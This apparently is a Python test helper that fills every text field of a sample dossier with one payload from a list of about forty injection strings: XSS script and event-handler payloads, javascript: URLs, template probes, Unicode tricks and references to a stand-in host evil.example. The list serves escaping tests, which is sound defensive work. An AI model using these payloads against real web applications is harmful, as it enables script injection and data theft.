"""A dossier in which every text that could come from outside is one and the same payload."""

from dataclasses import fields, is_dataclass, replace
from typing import Any, get_type_hints

from parley.dossier import Dossier
from parley.report import Block, Report, Sighting, Span
from tests.deliver.story import strait

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "<svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<form action=//evil.example><input name=x></form>",
    "<object data=x></object><embed src=x>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<!-- --><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}{{ config }}{# x #}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<scr\x00ipt>\x1b[31malert(1)\x07",
    "\u202e>tpircs<\u202d\u2066x",
    "\ud800<script>\udfff",
    "\ufeff\uffff<b>\ufdd0</b>",
    "<plaintext><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "a\u2028b\u2029<br>\u0085c\r\n<hr>",
    "[click](javascript:alert(1)) ![x](//evil.example/p.png) <http://evil.example> [x]: //evil.example",
    "**bold** `code` ~~x~~ | cell | # heading @everyone $x$",
    "expression(alert(1)); background:url(//evil.example)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)

_POINTERS = {"id", "report", "party", "speaker", "via", "place", "entity", "by", "account", "type"}


def hostile(payload: str) -> Dossier:
    """The dossier of the strait with the payload in every text field and in every passage."""
    found = _changed(strait(), payload)
    assert isinstance(found, Dossier)
    return found


def _changed(value: Any, payload: str) -> Any:
    if isinstance(value, Span):
        return Span(value.report, 0, len(payload))
    if isinstance(value, Report):
        return _report(value, payload)
    if isinstance(value, tuple):
        return tuple(item if isinstance(item, str) else _changed(item, payload) for item in value)
    if not is_dataclass(value) or isinstance(value, type):
        return value
    hints = get_type_hints(type(value))
    changed: dict[str, Any] = {}
    for field in fields(value):
        before = getattr(value, field.name)
        if hints[field.name] in (str, str | None) and field.name not in _POINTERS:
            changed[field.name] = payload
        elif not isinstance(before, str):
            changed[field.name] = _changed(before, payload)
    return replace(value, **changed)


def _report(report: Report, payload: str) -> Report:
    text = f"{payload} and {payload}"
    blocks = (Block(0, len(text), "paragraph"),)
    sightings = (Sighting(payload, payload, payload, payload),)
    return Report(report.id, text, sightings, blocks, payload, payload, payload, payload, payload)
